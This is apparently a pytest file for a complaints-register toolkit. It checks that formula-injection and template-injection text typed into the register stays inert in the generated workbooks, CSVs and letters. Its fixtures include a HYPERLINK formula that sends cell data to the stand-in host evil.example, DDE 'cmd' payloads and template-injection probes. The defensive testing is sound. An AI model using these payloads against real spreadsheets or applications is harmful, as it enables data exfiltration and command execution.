"""Injection: register text that a spreadsheet would run (=, +, -, @, and tab or carriage return first)
never becomes a formula in any workbook or CSV the toolkit writes, and template syntax typed into the
register is printed in letters, never run. Each output is generated from a register full of such text
and its XML (or CSV) scanned."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import types
import zipfile
from html import unescape
from pathlib import Path

import pytest
from click.testing import CliRunner

from xl_complaints.excel import udfs, workbook
from xl_complaints.cli import main

AS_OF = dt.date(2024, 6, 14)
STARTS = ("=", "+", "-", "@", "\t", "\r")
# What would run if a spreadsheet took them for formulas; each carries a marker found nowhere else.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"ZZINJ-1")',
    "+cmd|' /C calc'!ZZINJ2",
    "-2+3+cmd|' /C calc'!ZZINJ3",
    "@SUM(1+1)*cmd|' /C calc'!ZZINJ4",
    "\t=ZZINJ5()",
    "\r=ZZINJ6()",
    "=ZZINJ7",
]
MARKER = re.compile(r"ZZINJ")
TEMPLATE_TEXT = ["{{ 7*7 }}ZZTPL", "{% for x in range(3) %}ZZLOOP{% endfor %}", "{{ ''.__class__.__mro__ }}ZZTPL", "${7*7}ZZTPL"]


def injected_records() -> list[dict]:
    records = []
    for i, payload in enumerate(PAYLOADS):
        records.append({
            "Reference": f"{payload[:1]}CSC-{i}" if payload[:1] in STARTS else f"=CSC-{i}",
            "Date received": dt.date(2024, 6, 12), "Representation type": "Complaint", "Procedure": "Statutory",
            "Received from": "Parent", "Parental responsibility": "Yes", "How received": "Letter",
            "Complainant title": "Ms", "Complainant first name": payload, "Complainant last name": payload,
            "Address line 1": payload, "Town": payload, "Postcode": "XE1 1AA", "Team": payload,
            "Responding manager": payload, "Manager job title": payload, "Child name": payload,
        })
    # text where dates and list values belong: reported as problems, which quote nothing runnable either
    records.append({"Reference": "CSC-BAD", "Date received": PAYLOADS[0], "Representation type": PAYLOADS[1],
                    "Procedure": PAYLOADS[2], "Service": PAYLOADS[3], "S1 response sent": PAYLOADS[6]})
    records.append({"Reference": "CSC-TPL", "Date received": dt.date(2024, 6, 12), "Representation type": "Complaint",
                    "Procedure": "Statutory", "Received from": "Parent", "Parental responsibility": "Yes", "How received": "Letter",
                    "Complainant title": "Mr", "Complainant first name": TEMPLATE_TEXT[0], "Complainant last name": TEMPLATE_TEXT[1],
                    "Address line 1": TEMPLATE_TEXT[2], "Address line 2": TEMPLATE_TEXT[3], "Town": "Exampleton", "Postcode": "XE1 1AA",
                    "Responding manager": "Pat Smithers", "Manager job title": "Team Manager"})
    return records


@pytest.fixture(scope="module")
def register(tmp_path_factory) -> Path:
    return workbook.build(tmp_path_factory.mktemp("inj") / "R.xlsm", injected_records(), as_of=AS_OF)


def cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def formulas(path: Path) -> list[str]:
    """The text of every formula (<f> element) in every part of a workbook."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                found += [unescape(f) for f in re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", z.read(name).decode("utf-8", "replace"), re.S)]
    return found


def strings(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(unescape(z.read(n).decode("utf-8", "replace")) for n in z.namelist() if n.endswith(".xml"))


def assert_no_formula_from_the_register(path: Path, expect_text: bool = True) -> None:
    runnable = [f for f in formulas(path) if MARKER.search(f) or "CSC-" in f]
    assert runnable == [], f"{path.name}: register text written as a formula: {runnable[:3]}"
    if expect_text:  # the text itself is there, as text: the check above is not vacuous
        assert len(set(MARKER.findall(strings(path)))) and "ZZINJ" in strings(path)


def assert_csv_cells_are_inert(text: str) -> int:
    """No cell starts with a formula character unless it is a plain number; how many cells were escaped."""
    escaped = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in STARTS:
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), f"CSV cell would run as a formula: {cell!r}"
            if cell.startswith("'") and cell[1:2] in STARTS:
                escaped += 1
    return escaped


def test_the_status_csv_escapes_every_runnable_cell(register, tmp_path):
    # references keep their first character once surrounding blanks are trimmed: these five start a formula
    runnable = [r["Reference"].strip() for r in injected_records() if r["Reference"].strip()[:1] in STARTS]
    assert len(runnable) == 5
    shown = cli("status", register, "--as-of", AS_OF)
    assert shown.exit_code == 0
    assert assert_csv_cells_are_inert(shown.output) >= len(runnable)  # every one of them escaped
    for reference in runnable:
        assert f",'{reference}," in shown.output
    saved = tmp_path / "status.csv"
    assert cli("status", register, "--as-of", AS_OF, "--out", saved).exit_code == 0
    assert assert_csv_cells_are_inert(saved.read_text(encoding="utf-8-sig")) >= len(runnable)


def test_the_status_workbook_holds_register_text_as_text(register, tmp_path):
    out = tmp_path / "status.xlsx"
    assert cli("status", register, "--as-of", AS_OF, "--out", out).exit_code == 0
    assert formulas(out) == []  # the report has no formulas at all
    text = strings(out)
    for i, payload in enumerate(PAYLOADS):
        assert f"CSC-{i}" in text


def test_the_statistics_workbook_and_json_hold_no_register_text(register, tmp_path):
    out, js = tmp_path / "stats.xlsx", tmp_path / "stats.json"
    assert cli("stats", register, "--year", "2024", "--out", out, "--as-of", AS_OF).exit_code == 0
    assert cli("stats", register, "--year", "2024", "--format", "json", "--out", js, "--as-of", AS_OF).exit_code == 0
    assert_no_formula_from_the_register(out, expect_text=False)
    assert not MARKER.search(strings(out)) and "cmd|" not in strings(out)
    assert not MARKER.search(js.read_text(encoding="utf-8"))


@pytest.mark.parametrize("static", [True, False], ids=["values", "live-formula"])
def test_refresh_writes_register_text_back_as_text(register, tmp_path, static):
    path = tmp_path / "R.xlsm"
    path.write_bytes(register.read_bytes())
    if not static:  # a register whose block is the live formula: refresh leaves it, rewrites the rest
        import openpyxl_edit
        from openpyxl.worksheet.formula import ArrayFormula

        openpyxl_edit.edit(path, lambda wb: setattr(wb[workbook.CALCULATED].cell(workbook.FIRST_ROW, 1), "value",
                                                          ArrayFormula(workbook.CALC_BLOCK, workbook.LIVE_FORMULA)))
    result = cli("refresh", path, "--as-of", "2024-07-01", *(["--static"] if static else []))
    assert result.exit_code == 0, result.output
    assert_no_formula_from_the_register(path)
    import openpyxl

    wb = openpyxl.load_workbook(path, keep_vba=True)
    cells = [c for row in wb[workbook.REGISTER].iter_rows() for c in row if isinstance(c.value, str) and MARKER.search(c.value)]
    assert len(cells) >= 7 * len(PAYLOADS) and all(c.data_type == "s" for c in cells)
    if static:
        keys = [c.value for c in wb[workbook.CALCULATED]["A"] if isinstance(c.value, str) and "CSC-" in c.value]
        # Every reference kept as the text it was, formula-like starts included (a carriage return is
        # stored in the file as _x000D_, which is how openpyxl reads it back).
        keys = [k.replace("_x000D_", "\r") for k in keys]
        assert keys == [r["Reference"] for r in injected_records()]


def test_the_register_as_built_holds_register_text_as_text(register):
    assert_no_formula_from_the_register(register)


class _Range:
    def __init__(self, log):
        self.log = log
        self.row = 1
        self.number_format = None

    def end(self, direction):
        return self

    def clear_contents(self):
        pass

    @property
    def value(self):
        return None

    @value.setter
    def value(self, rows):
        self.log.extend(rows)


def test_the_correspondence_log_and_holidays_written_into_excel_are_text():
    written: list = []
    sheet = types.SimpleNamespace(range=lambda *a: _Range(written))
    book = types.SimpleNamespace(sheets={workbook.CORRESPONDENCE: sheet, workbook.HOLIDAYS: sheet})
    session = udfs.ExcelSession(book)
    rows = [[payload, AS_OF, "Acknowledgement", f"Letters/{payload}/2024-06-14 Acknowledgement.docx"] for payload in PAYLOADS]
    session.append_correspondence(rows)
    session.write_holidays([(AS_OF, "Friday", payload) for payload in PAYLOADS])
    texts = [v for row in written for v in row if isinstance(v, str)]
    assert len(texts) == 5 * len(PAYLOADS)  # reference, letter type, file; weekday, holiday name
    for value in texts:
        assert value[:1] not in STARTS, f"Excel would take {value!r} for a formula"
    assert sum(v.startswith("'") for v in texts) == 2 * len(PAYLOADS)


def test_template_syntax_in_the_register_is_printed_in_letters_never_run(register, tmp_path):
    import docx

    result = cli("letters", register, "--type", "acknowledgement", "--refs", "CSC-TPL,=CSC-6", "--as-of", "2024-06-13", "--out", tmp_path / "L")
    assert result.exit_code == 0, result.output
    files = sorted((tmp_path / "L").rglob("*.docx"))
    assert len(files) == 2
    def words(path):
        document = docx.Document(path)
        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
        return "\n".join([p.text for p in document.paragraphs] + cells)

    text = "\n".join(words(f) for f in files)
    for typed in TEMPLATE_TEXT:
        assert typed in text  # exactly as typed
    assert "ZZLOOPZZLOOP" not in text and "<class" not in text and "49ZZTPL" not in text
    assert "=ZZINJ7" in text  # a letter is not a spreadsheet: the text is simply printed
